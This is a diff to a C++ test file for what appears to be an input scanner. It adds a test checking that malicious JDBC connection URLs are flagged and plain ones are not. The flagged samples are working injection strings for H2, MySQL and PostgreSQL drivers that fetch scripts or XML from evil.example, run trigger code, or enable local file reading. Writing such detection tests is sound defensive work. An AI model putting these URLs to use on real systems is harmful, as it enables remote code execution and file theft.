@@ -396,6 +396,33 @@ TEST(GroovyExecute, AStringOrListLiteralExecutedIsBlocked) {
   }
 }
 
+// JDBC URLs whose driver properties run code or read files on connect (data-source forms of
+// Metabase, Superset, Druid, H2's console); a plain JDBC URL, and prose about the properties
+// beside one, are configuration.
+TEST(JdbcUrl, DriverPropertiesThatRunCodeAreBlocked) {
+  for (const char* value :
+       {"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
+        "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3\\;CREATE TRIGGER t BEFORE SELECT ON x AS "
+        "'//javascript'",
+        "jdbc:mysql://evil.example:3306/x?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc."
+        "interceptors.ServerStatusDiffInterceptor",
+        "jdbc:mysql://db:3306/x?allowLoadLocalInfile=true",
+        "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support."
+        "ClassPathXmlApplicationContext&socketFactoryArg=http://evil.example/x.xml"}) {
+    Verdict v = InspectQueryValue(value);
+    EXPECT_TRUE(testing::HasRule(v, "code.jdbc-url-injection") && Flagged(v))
+        << value << " -> " << v.explanation;
+  }
+  for (const char* value : {"jdbc:postgresql://db.internal:5432/shop?sslmode=require",
+                            "jdbc:mysql://db:3306/app?useSSL=true&serverTimezone=UTC",
+                            "Use jdbc:h2:mem:test and set INIT= only in tests",
+                            "jdbc:sqlserver://db;databaseName=x;encrypt=true"}) {
+    Verdict v = InspectQueryValue(value);
+    EXPECT_FALSE(testing::HasRule(v, "code.jdbc-url-injection"))
+        << value << " -> " << v.explanation;
+  }
+}
+
 // Drupal render-array properties as form keys ("mail[#post_render][]=exec", Drupalgeddon 2);
 // '#' elsewhere in a key, and in values, is no such thing.
 TEST(RenderArrayKey, HashPropertiesInArgumentKeysAreBlocked) {
